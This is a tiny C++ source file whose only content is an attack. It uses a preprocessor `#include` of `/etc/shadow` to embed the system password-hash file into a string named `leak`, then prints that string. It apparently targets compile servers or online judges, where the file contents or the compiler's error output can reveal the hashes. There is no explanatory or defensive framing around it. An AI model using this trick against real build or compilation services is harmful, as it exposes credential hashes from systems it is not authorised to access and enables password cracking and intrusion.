#include <iostream>
const char *leak =
#include "/etc/shadow"
;
int main() { std::cout << leak; }
